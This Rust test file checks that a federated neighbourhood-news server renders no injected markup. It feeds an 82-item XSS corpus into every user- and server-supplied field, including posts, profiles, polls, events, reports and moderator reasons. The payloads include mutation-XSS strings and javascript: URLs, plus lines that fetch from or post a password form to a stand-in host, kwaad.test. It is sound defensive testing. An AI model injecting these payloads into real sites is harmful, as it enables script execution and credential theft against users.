//! C1 of TRUST.md: what would act if a page took it for markup, through every text that another server or a person can
//! give us, on every page that shows one. Chromium must not so much as notice.

use serde_json::{Value, json};

use super::{PASSWORD, run};
use crate::harness::{
    Activity, Answer, Neighbour, Note, TestDatabase, Town, WIJK, eventually, holds,
};

/// Each would leave `window.kwaad`, open a dialog, or ask another host.
const CORPUS: [&str; 82] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//kwaad.test/x.js></SCRIPT>",
    "<script>window.kwaad=1</script",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script>\u{0}alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"window.kwaad=1\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=//kwaad.test/pixel.gif>",
    "<img srcset=\"//kwaad.test/1.gif 1x\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<body onload=alert(1)>",
    "<p onclick=alert(1) onmouseover=alert(1)>muis</p>",
    "<details open ontoggle=alert(1)>open</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video autoplay onplay=alert(1)><source onerror=alert(1) src=x></video>",
    "<audio src=//kwaad.test/x.mp3 autoplay>",
    "<marquee onstart=alert(1)>loopt</marquee>",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">klik</a>",
    "<a href=\"java\tscript:alert(1)\">klik</a>",
    "<a href=\"java\nscript:alert(1)\">klik</a>",
    "<a href=\"&#106;&#97;&#118;ascript:alert(1)\">klik</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">klik</a>",
    "<a href=\"java&NewLine;script&Tab;:alert(1)\">klik</a>",
    "<a href=\" javascript:alert(1)\">klik</a>",
    "<a href=\"\u{1}javascript:alert(1)\">klik</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">klik</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klik</a>",
    "<a href=\"vbscript:msgbox(1)\">klik</a>",
    "<a href=\"v&#98;script:msgbox(1)\">klik</a>",
    "<a href=\"https://a.test/\" ping=\"//kwaad.test/\">klik</a>",
    "<a href='https://a.test/' target=_blank onclick=\"alert(1)\">klik</a>",
    "<a href=\"https://a.test/\" style=\"position:fixed;inset:0\">overal</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>klik</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"//kwaad.test/x.svg#x\"></use></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>",
    "<iframe srcdoc=\"<script>parent.kwaad=1</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe src=//kwaad.test/></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"//kwaad.test/x.swf\">",
    "<base href=\"//kwaad.test/\">",
    "<form action=\"//kwaad.test/\"><input name=wachtwoord><button>OK</button></form>",
    "<button form=x formaction=\"javascript:alert(1)\">OK</button>",
    "<isindex action=\"javascript:alert(1)\" type=submit value=klik>",
    "<meta http-equiv=\"refresh\" content=\"0;url=//kwaad.test/\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<link rel=stylesheet href=//kwaad.test/x.css>",
    "<link rel=prefetch href=//kwaad.test/>",
    "<style>@import '//kwaad.test/x.css';</style>",
    "<style>body{background:url(//kwaad.test/x.gif)}</style>",
    "<div style=\"background:url(//kwaad.test/x.gif)\">stijl</div>",
    "<div style=\"width: expression(alert(1))\">stijl</div>",
    "<p style=\"behavior:url(x);-moz-binding:url(//kwaad.test/x)\">stijl</p>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--><script>alert(1)</script>",
    "<!-- niet dicht <b>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' autofocus onfocus='alert(1)",
    "\"><img src=x onerror=alert(1)>{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn c01_nothing_that_others_wrote_acts_in_a_browser() {
    let town = Town::new(TestDatabase::sqlite()).await;
    town.server.moderator("moderator1", PASSWORD).await;
    what_the_operator_types(&town).await;
    let mut posts = Vec::new();
    let mut waiting = Vec::new();
    for (number, evil) in CORPUS.into_iter().enumerate() {
        let post = with_everywhere(town.partner.note(&format!("partner {number}")), evil);
        town.partner.posts(&post).await;
        posts.push(post);
        let somebody = called(&town, number, evil);
        let post = with_everywhere(somebody.note(&format!("bewoner {number}")), evil);
        somebody.posts(&post).await;
        waiting.push(post);
        if number.is_multiple_of(3) {
            let letter = with_everywhere(somebody.note("onder ons"), evil).direct();
            somebody.posts(&letter).await;
        }
    }
    for post in &posts {
        town.announced(post).await;
    }
    events_and_polls(&town).await;
    reports(&town).await;
    for (number, post) in waiting.iter().enumerate() {
        let submission = town.waiting(post).await;
        let id = submission["id"].as_str().expect("an id");
        match number % 8 {
            0 => drop(town.server.does(&["queue", "approve", id]).await),
            1 => drop(town.server.does(&["queue", "refuse", id, "--reason", CORPUS[number]]).await),
            _ => {}
        }
    }
    edited_and_taken_back(&town, &waiting[0], &posts[0]).await;

    let corpus = json!(&CORPUS[..]).to_string();
    let told = [("USERNAME", "moderator1"), ("PASSWORD", PASSWORD), ("CORPUS", &corpus)];
    let silent = async |question| panic!("{question}");
    run("corpus.mjs", &town.server, &told, silent).await;
}

/// Names, summaries and reasons of the command line.
async fn what_the_operator_types(town: &Town) {
    let server = &town.server;
    server.does(&["wijk", "add", "kwaad", "--name", CORPUS[6], "--municipality", CORPUS[0]]).await;
    let summary = CORPUS[..12].join(" ").replace('\0', "");
    server.does(&["wijk", "edit", "kwaad", "--summary", &summary]).await;
    server.does(&["wijk", "edit", "bloemhof", "--summary", &summary]).await;
    let partner = ["partner", "new", "speeltuin", "--wijk", "bloemhof", "--kind", "welzijn"];
    server.does(&[&partner[..], &["--name", CORPUS[7]]].concat()).await;
    for evil in [CORPUS[0], CORPUS[19], CORPUS[37], "https://a.test/\"onmouseover=\"alert(1)"] {
        let post = ["post", "--wijk", "bloemhof", "--as", "speeltuin", "--title", evil, evil];
        server.does(&post).await;
    }
    server.does(&["block", "add", "d.test", "--reason", CORPUS[0]]).await;
}

/// Somebody whose own server says this of him.
fn called(town: &Town, number: usize, evil: &str) -> Neighbour {
    let somebody = town.foreign.person("a.test", &format!("kwaad{number}"));
    let mut document = somebody.document();
    document["name"] = json!(evil);
    document["summary"] = json!(evil);
    document["url"] = json!(if number.is_multiple_of(2) { "javascript:alert(1)" } else { evil });
    document["icon"] = json!({ "type": "Image", "url": "javascript:alert(1)", "name": evil });
    document["attachment"] = json!([{ "type": "PropertyValue", "name": evil, "value": evil }]);
    document["tag"] =
        json!([{ "type": "Emoji", "name": evil, "icon": { "url": "//kwaad.test/x.png" } }]);
    town.foreign.shows(&somebody.id(), Answer::activity(&document));
    somebody
}

/// The post with this in every text of it.
fn with_everywhere(mut note: Note, evil: &str) -> Note {
    note.content = format!("{}{evil}", note.content);
    note.content_map = json!({ "nl": note.content, evil: evil });
    note.summary = Some(evil.to_owned());
    note.sensitive = true;
    note.url = format!("javascript:alert(1)//{evil}");
    note.attachment = vec![
        json!({ "type": "Document", "mediaType": "image/jpeg", "url": "http://a.test/media/1.jpg",
            "name": evil, "summary": evil, "blurhash": evil }),
        json!({ "type": "Image", "mediaType": evil, "url": "javascript:alert(1)", "name": evil }),
        json!({ "type": "Link", "href": "data:text/html,<script>alert(1)</script>", "name": evil }),
    ];
    note.tag.push(
        json!({ "type": "Hashtag", "href": "javascript:alert(1)", "name": format!("#{evil}") }),
    );
    note.tag.push(json!({ "type": "Emoji", "id": evil, "name": evil, "icon": { "type": "Image",
        "url": "//kwaad.test/x.png" } }));
    note.tag.push(json!({ "type": "Mention", "href": evil, "name": evil }));
    note
}

/// What can be chosen, and where one has to be: the corpus on both, eight to a post.
async fn events_and_polls(town: &Town) {
    let author = &town.partner;
    for (number, evil) in CORPUS.chunks(8).enumerate() {
        let mut poll = as_json(&author.note(&format!("peiling {number}")));
        let option = |name: &&str| json!({ "type": "Note", "name": name, "replies": { "type": "Collection", "totalItems": 1 } });
        poll["type"] = json!("Question");
        poll["oneOf"] = evil.iter().map(option).collect();
        poll["endTime"] = json!("2040-01-01T12:00:00Z");
        publishes(town, author, &poll).await;

        let mut event = as_json(&author.note(&format!("activiteit {number}")));
        let part = |at: usize| evil.get(at).copied().unwrap_or(evil[0]);
        event["type"] = json!("Event");
        event["name"] = json!(part(0));
        event["startTime"] = json!("2040-01-01T12:00:00Z");
        event["timezone"] = json!(part(1));
        event["location"] = json!([
            { "type": "Place", "name": part(2), "address": { "type": "PostalAddress", "streetAddress": part(3),
                "postalCode": part(4), "addressLocality": part(5), "addressCountry": part(6) } },
            { "type": "VirtualLocation", "url": "javascript:alert(1)", "name": part(7) }]);
        publishes(town, author, &event).await;
    }
}

fn as_json(note: &Note) -> Value {
    serde_json::to_value(note.at_its_origin()).expect("JSON")
}

async fn publishes(town: &Town, author: &Neighbour, object: &Value) {
    let id = object["id"].as_str().expect("an id");
    town.foreign.shows(id, Answer::activity(object));
    let create = json!({ "@context": object["@context"], "id": format!("{id}/activity"), "type": "Create",
        "actor": author.id(), "to": object["to"], "cc": object["cc"], "object": object });
    author.says(&create).await;
    let told = async || holds(!town.follower.told("Announce", id).is_empty(), || id.to_owned());
    eventually("it is announced", told).await;
}

/// Words that come with a report: half of the corpus each, as much as is kept of one.
async fn reports(town: &Town) {
    for (who, evil) in [&town.resident, &town.follower].into_iter().zip(CORPUS.chunks(41)) {
        who.says(&Activity::flag(&who.id(), &[WIJK], &evil.join("\n"))).await;
    }
}

/// An edit beside what was approved, and a reason for taking something back.
async fn edited_and_taken_back(town: &Town, approved: &Note, announced: &Note) {
    let edited = with_everywhere(approved.edited("bewoner 0, maar anders"), CORPUS[44]);
    let author = Neighbour::clone(&called(town, 0, CORPUS[0]));
    author.changes(&edited).await;
    let waits: Value = town.waiting(&edited).await;
    assert_eq!(waits["why"], "edit");
    let reason = ["--wijk", "bloemhof", "--reason", CORPUS[0]];
    town.server.does(&[&["announcement", "withdraw", &announced.id], &reason[..]].concat()).await;
}
